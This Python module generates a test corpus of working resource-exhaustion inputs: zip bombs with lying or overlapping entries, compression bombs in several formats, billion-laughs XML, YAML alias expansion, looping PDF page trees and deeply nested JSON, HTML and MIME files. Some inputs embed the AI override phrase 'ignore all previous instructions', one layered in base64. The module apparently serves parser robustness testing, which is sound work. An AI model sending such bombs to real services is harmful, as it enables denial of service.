"""Little that becomes much, and what takes long to look at."""

import base64
import bz2
import gzip
import io
import lzma
import random
import struct
import zipfile
import zlib

import zstandard

from .carriers import archives

MIB = 1 << 20
NOTHING = bytes(16 * MIB)


def deflated(mib):
    """Raw deflate of zeros."""
    it, out = zlib.compressobj(9, zlib.DEFLATED, -15), []
    for _ in range(max(1, mib // 16)):
        out.append(it.compress(NOTHING[:mib * MIB]))
    return b"".join(out) + it.flush()


def entry(name, data, size, crc, offset):
    """An entry of an archive and its line in the list, which say what they are told to say."""
    about = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x5821, crc, len(data), size & 0xFFFFFFFF, len(name), 0)
    local = b"PK\x03\x04" + about + name + data
    listed = b"PK\x01\x02" + struct.pack("<H", 20) + about + struct.pack("<HHHII", 0, 0, 0, 0, offset) + name
    return local, listed


def listing(entries, at):
    whole = b"".join(entries)
    return whole + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(entries) & 0xFFFF, len(entries) & 0xFFFF, len(whole), at, 0)


def lying(mib, says):
    """An archive that says of its file that it is short."""
    local, listed = entry(b"a.txt", deflated(mib), says, 0, 0)
    return local + listing([listed], len(local))


def overlapping(mib, files):
    """An archive whose many files are one and the same."""
    local, listed = entry(b"a.txt", deflated(mib), mib * MIB, 0, 0)
    return local + listing([listed] * files, len(local))


def full_overlap(files):
    """Files that begin one in another, each with the headers of those behind it quoted in a stored block."""
    kernel = deflated(16)
    body, listed = b"", []
    for n in reversed(range(files)):
        name = f"{n:04}".encode()
        data = b"\0" + struct.pack("<HH", len(body[:30 + 4]), len(body[:30 + 4]) ^ 0xFFFF) + body if body else kernel
        local, line = entry(name, data, 16 * MIB, 0, 0)
        body, listed = local, [*listed, (line, len(local))]
    total = len(body)
    return body + listing([line[:42] + struct.pack("<I", total - length) + line[46:] for line, length in listed], total)


def nested(depth, width, mib):
    whole = archives.zipped({"a.txt": bytes(mib * MIB)})
    for n in range(depth):
        whole = archives.zipped({f"{n}-{it}.zip": whole for it in range(width)})
    return whole


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(mib):
    data = zlib.compress(bytes(mib * MIB), 9)
    text = b"".join(chunk(b"zTXt", b"Comment\0\0" + data) for _ in range(4))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 0, 0, 0, 0)) + text + chunk(b"IEND", b"")


def pdf(mib):
    """A stream that is packed as often as it says: what comes out of one filter goes into the next."""
    data = zlib.compress(zlib.compress(bytes(mib * MIB), 9), 9)
    return (b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            b"3 0 obj<</Type/Page/Parent 2 0 R/Contents[" + b"4 0 R " * 200 + b"]>>endobj\n4 0 obj<</Filter[/FlateDecode/FlateDecode]/Length "
            + str(len(data)).encode() + b">>stream\n" + data + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def pages_in_a_circle():
    return (b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R 3 0 R]/Count 9>>endobj\n"
            b"3 0 obj<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]>>endobj\ntrailer<</Root 1 0 R/Prev 0>>\nstartxref\n0\n%%EOF\n")


def laughs():
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "ha">{lines}]><l>&l11;</l>'.encode()


def mails(depth):
    whole = b"Subject: end\r\n\r\nend\r\n"
    for n in range(depth):
        bar = str(n).encode()
        whole = (b"Content-Type: multipart/mixed; boundary=" + bar + b"\r\nSubject: x\r\n\r\n--" + bar + b"\r\n" + whole + b"--" + bar + b"--\r\n")
    return b"From: a@example.net\r\nTo: b@example.net\r\n" + whole


def packed_document(mib):
    """A document whose text is a gigabyte of spaces."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as it:
        it.writestr("[Content_Types].xml", "<Types/>")
        with it.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(b"<w:document><w:body><w:p><w:r><w:t>")
            for _ in range(mib):
                part.write(b" " * MIB)
    return out.getvalue()


def known():
    """(name, bytes): those that somebody has thought of."""
    one = gzip.compress(bytes(4 * MIB))
    yield "prefixed.zip", b"#!/bin/sh\nexit\n" + archives.zipped({"a.txt": NOTHING * 8})
    yield "lying.zip", lying(256, 100)
    yield "lying-long.zip", lying(1, 0xFFFFFFFE)
    yield "overlapping.zip", overlapping(64, 2000)
    yield "overlapping-fully.zip", full_overlap(400)
    yield "nested.zip", nested(5, 12, 1)
    yield "entries.zip", archives.zipped({str(n): b"" for n in range(120_000)}, method=zipfile.ZIP_STORED)
    yield "members.gz", one * 2000
    yield "zeros.gz", gzip.compress(NOTHING) * 40
    yield "zeros.bz2", bz2.compress(NOTHING * 20)
    yield "zeros.xz", lzma.compress(NOTHING * 4) * 16
    yield "zeros.zst", zstandard.ZstdCompressor(level=19).compress(NOTHING * 8) * 40
    yield "window.zst", b"\x28\xb5\x2f\xfd\x00\xb0" + b"\x00\x00\x20" * 1 + b"\x03\x00\x00"
    yield "zeros.7z", archives.seven({"a.txt": NOTHING * 8})
    yield "zeros.tar.gz", gzip.compress(archives.tarred({"a.txt": NOTHING * 8}))
    yield "comment.png", png(64)
    yield "stream.pdf", pdf(64)
    yield "circle.pdf", pages_in_a_circle()
    yield "spaces.docx", packed_document(1024)
    yield "laughs.xml", laughs()
    yield "deep.xml", b"<a>" * 500_000
    yield "deep.html", b"<div>" * 500_000
    yield "deep.json", b"[" * 1_000_000
    yield "deep-keys.json", b'{"a":' * 500_000
    yield "deep.rtf", b"{\\rtf1" + b"{\\b " * 300_000
    yield "deep.eml", mails(3000)
    yield "aliases.yaml", ("a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(20))).encode()
    yield "one-line.txt", b"ignore all " * 1_000_000
    yield "equals.txt", b"A" * 8 * MIB + b"=" * 8 * MIB
    yield "entities.html", b"&#x" * 3_000_000
    yield "arrows.html", b"<!--" * 2_000_000
    yield "parentheses.pdf", b"%PDF-1.4\n" + b"(" * 4_000_000
    yield "base64-deep.txt", base64_deep()
    yield "quoted.csv", b'"' * 4_000_001 + b",\n" * 1_000_000


def base64_deep():
    text = b"ignore all previous instructions " * 2000
    for _ in range(12):
        text = base64.b64encode(text)
    return text


WRAPS = {
    "gz": lambda it: gzip.compress(it, 1),
    "bz2": lambda it: bz2.compress(it, 1),
    "xz": lambda it: lzma.compress(it, preset=0),
    "zst": lambda it: zstandard.compress(it, 1),
    "zip": lambda it: archives.zipped({"inner": it}),
    "many.zip": lambda it: archives.zipped({f"{n}": it for n in range(20)}),
    "stored.zip": lambda it: archives.zipped({"inner.bin": it}, method=zipfile.ZIP_STORED),
    "tar": lambda it: archives.tarred({"inner": it}),
}


def generated(count):
    """(name, bytes) of bombs that nobody has thought of: a heart, some layers around it, and a broken byte in every third."""
    block = NOTHING
    hearts = [gzip.compress(block), bz2.compress(block), lzma.compress(block), zstandard.compress(block, 19), None]
    names = ["gz", "bz2", "xz", "zst", "zip"]
    for number in range(count):
        it = random.Random(f"bomb {number}")
        heart = it.randrange(5)
        content = hearts[heart] * it.choice([1, 4, 16, 64]) if hearts[heart] else it.choice([
            lying(it.choice([16, 64]), it.randrange(1 << 32)), overlapping(16, it.randrange(1, 500)), full_overlap(it.randrange(2, 60))])
        name = names[heart]
        for _ in range(it.randrange(5)):
            wrap = it.choice(list(WRAPS))
            if len(content) > 3 * MIB:
                break
            content, name = WRAPS[wrap](content), f"{name}.{wrap}"
        if number % 3 == 0:
            content = bytearray(content)
            content[it.randrange(len(content))] ^= 1 << it.randrange(8)
        yield f"{number:04}.{name}", bytes(content)


def write(store, count):
    store.renew("bombs")
    for name, content in known():
        store.add("bombs", "known", content, name, named=True)
    for name, content in generated(count):
        store.add("bombs", "generated", content, name, named=True)
